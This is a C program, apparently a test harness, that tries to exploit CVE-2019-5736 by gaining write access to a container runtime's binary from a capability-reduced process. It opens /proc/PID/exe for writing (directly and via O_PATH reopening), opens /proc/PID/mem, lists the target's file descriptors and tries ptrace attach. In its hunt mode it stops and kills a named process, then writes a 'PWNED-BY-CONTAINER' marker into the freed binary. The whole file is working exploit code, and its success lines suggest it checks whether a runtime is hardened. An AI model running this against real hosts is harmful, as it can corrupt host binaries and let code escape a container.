/* exe_attack: try to get write access to a runtime binary (CVE-2019-5736).
 *
 *   exe_attack [--keep-caps] target PID
 *       attack a process (the runtime's init, blocked before exec):
 *       open /proc/PID/exe for writing, open it O_PATH and reopen it for
 *       writing through /proc/self/fd, open /proc/PID/mem, list
 *       /proc/PID/fd, PTRACE_ATTACH. Unless --keep-caps, first drop to
 *       a container-like capability set (no CAP_SYS_PTRACE/SYS_ADMIN).
 *   exe_attack self
 *       open /proc/self/exe for writing (directly and via O_PATH).
 *   exe_attack [--keep-caps] hunt-at EXEPATH PID NAME SECONDS
 *       the same for one process seen as EXEPATH, signalled as PID.
 *   exe_attack hunt NAME SECONDS
 *       wait for a process whose /proc/PID/exe is named NAME, stop it,
 *       hold its exe O_PATH, kill it and then try to write the file.
 * Every attempt prints one line "what OK" (attack worked) or
 * "what errno=N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void res(const char *what, int ok)
{
  if (ok)
    printf("%s OK\n", what);
  else
    printf("%s errno=%d\n", what, errno);
  fflush(stdout);
}

static void drop_caps(void)
{
  /* roughly docker's default set, without SYS_PTRACE and SYS_ADMIN */
  static const int keep[] = {CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_FOWNER, CAP_FSETID, CAP_KILL, CAP_SETGID,
                             CAP_SETUID, CAP_NET_BIND_SERVICE, CAP_AUDIT_WRITE};
  unsigned long long mask = 0;
  for (size_t i = 0; i < sizeof keep / sizeof *keep; i++)
    mask |= 1ULL << keep[i];
  for (int c = 0; c <= 63; c++)
    if (!(mask & (1ULL << c)))
      prctl(PR_CAPBSET_DROP, c, 0, 0, 0);
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  memset(d, 0, sizeof d);
  if (syscall(SYS_capget, &h, d) < 0) {
    perror("capget");
    exit(3);
  }
  for (int i = 0; i < 2; i++) {
    unsigned m = (unsigned)(mask >> (32 * i));
    d[i].effective &= m;
    d[i].permitted &= m;
    d[i].inheritable = 0;
  }
  if (syscall(SYS_capset, &h, d) < 0) {
    perror("capset");
    exit(3);
  }
  prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_CLEAR_ALL, 0, 0, 0);
}

static void try_exe(const char *pfx, const char *exe)
{
  char what[128], p[64];
  int fd = open(exe, O_WRONLY | O_CLOEXEC);
  snprintf(what, sizeof what, "%s-exe-wronly", pfx);
  res(what, fd >= 0);
  if (fd >= 0)
    close(fd);
  fd = open(exe, O_RDWR | O_CLOEXEC);
  snprintf(what, sizeof what, "%s-exe-rdwr", pfx);
  res(what, fd >= 0);
  if (fd >= 0)
    close(fd);
  int pfd = open(exe, O_PATH | O_CLOEXEC);
  snprintf(what, sizeof what, "%s-exe-opath", pfx);
  res(what, pfd >= 0);
  if (pfd >= 0) {
    snprintf(p, sizeof p, "/proc/self/fd/%d", pfd);
    fd = open(p, O_WRONLY | O_CLOEXEC);
    snprintf(what, sizeof what, "%s-exe-reopen-wronly", pfx);
    res(what, fd >= 0);
    if (fd >= 0)
      close(fd);
    close(pfd);
  }
}

static int target(pid_t pid)
{
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
  try_exe("target", p);
  char l[4096];
  ssize_t n = readlink(p, l, sizeof l - 1);
  res("target-exe-readlink", n >= 0);
  snprintf(p, sizeof p, "/proc/%d/mem", (int)pid);
  int fd = open(p, O_RDWR | O_CLOEXEC);
  res("target-mem-rdwr", fd >= 0);
  snprintf(p, sizeof p, "/proc/%d/fd", (int)pid);
  /* opening the directory may work; listing or opening entries must not */
  DIR *d = opendir(p);
  int listed = 0, opened = 0;
  errno = EACCES;
  if (d) {
    struct dirent *e;
    errno = 0;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.')
        continue;
      listed++;
      char fp[300];
      snprintf(fp, sizeof fp, "/proc/%d/fd/%s", (int)pid, e->d_name);
      int f = open(fp, O_RDONLY | O_CLOEXEC);
      if (f >= 0) {
        opened++;
        close(f);
      }
    }
    if (!listed && !errno)
      errno = ENOENT;
    closedir(d);
  }
  res("target-fd-list", listed > 0);
  errno = EACCES;
  res("target-fd-open", opened > 0);
  snprintf(p, sizeof p, "/proc/%d/root/", (int)pid);
  fd = open(p, O_PATH | O_CLOEXEC);
  res("target-root", fd >= 0);
  int r = (int)ptrace(PTRACE_ATTACH, pid, 0, 0);
  res("target-ptrace-attach", r == 0);
  if (r == 0) {
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  r = (int)ptrace(PTRACE_SEIZE, pid, 0, 0);
  res("target-ptrace-seize", r == 0);
  if (r == 0)
    ptrace(PTRACE_DETACH, pid, 0, 0);
  return 0;
}

static double now(void)
{
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + t.tv_nsec / 1e9;
}

static int grab(const char *p, pid_t pid);

/* hunt-at EXEPATH PID SECONDS: like hunt, for a known process seen through
 * another /proc (EXEPATH) but signalled by PID in our pid namespace. */
static int hunt_at(const char *path, pid_t pid, const char *name, double secs)
{
  double end = now() + secs;
  while (now() < end) {
    char l[4096];
    ssize_t n = readlink(path, l, sizeof l - 1);
    if (n > 0) {
      l[n] = 0;
      const char *b = strrchr(l, '/');
      b = b ? b + 1 : l;
      if (strcmp(b, name) == 0) {
        kill(pid, SIGSTOP);
        printf("hunt-found pid=%d exe=%s\n", (int)pid, l);
        return grab(path, pid);
      }
    }
    usleep(200);
  }
  printf("hunt-notfound\n");
  return 0;
}

static int hunt(const char *name, double secs)
{
  double end = now() + secs;
  pid_t self = getpid();
  while (now() < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid <= 0 || pid == self)
        continue;
      char p[64], l[4096];
      snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
      ssize_t n = readlink(p, l, sizeof l - 1);
      if (n <= 0)
        continue;
      l[n] = 0;
      const char *b = strrchr(l, '/');
      b = b ? b + 1 : l;
      if (strcmp(b, name) != 0)
        continue;
      kill(pid, SIGSTOP);
      printf("hunt-found pid=%d exe=%s\n", (int)pid, l);
      return grab(p, pid);
    }
    if (d)
      closedir(d);
  }
  printf("hunt-notfound\n");
  return 0;
}

static int grab(const char *p, pid_t pid)
{
  int pfd = open(p, O_PATH | O_CLOEXEC);
  res("hunt-exe-opath", pfd >= 0);
  int wfd = open(p, O_WRONLY | O_CLOEXEC);
  res("hunt-exe-wronly-while-running", wfd >= 0);
  kill(pid, SIGKILL);
  if (pfd < 0)
    return 0;
  /* wait for the process to be gone, then write */
  char fp[64];
  snprintf(fp, sizeof fp, "/proc/self/fd/%d", pfd);
  double wend = now() + 5;
  int fd = -1;
  while (now() < wend) {
    fd = open(fp, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 || errno != ETXTBSY)
      break;
    usleep(10000);
  }
  res("hunt-exe-reopen-wronly", fd >= 0);
  if (fd >= 0) {
    ssize_t w = pwrite(fd, "PWNED-BY-CONTAINER", 18, 0);
    res("hunt-exe-write", w == 18);
  }
  return 0;
}

int main(int argc, char **argv)
{
  int i = 1;
  int keep = 0;
  if (i < argc && strcmp(argv[i], "--keep-caps") == 0) {
    keep = 1;
    i++;
  }
  if (i < argc && strcmp(argv[i], "target") == 0 && i + 1 < argc) {
    if (!keep)
      drop_caps();
    return target((pid_t)atoi(argv[i + 1]));
  }
  if (i < argc && strcmp(argv[i], "self") == 0) {
    try_exe("self", "/proc/self/exe");
    return 0;
  }
  if (i < argc && strcmp(argv[i], "hunt-at") == 0 && i + 4 < argc) {
    if (!keep)
      drop_caps();
    return hunt_at(argv[i + 1], (pid_t)atoi(argv[i + 2]), argv[i + 3], atof(argv[i + 4]));
  }
  if (i < argc && strcmp(argv[i], "hunt") == 0 && i + 2 < argc)
    return hunt(argv[i + 1], atof(argv[i + 2]));
  fprintf(stderr, "usage: exe_attack [--keep-caps] target PID | self | hunt NAME SECONDS\n");
  return 2;
}
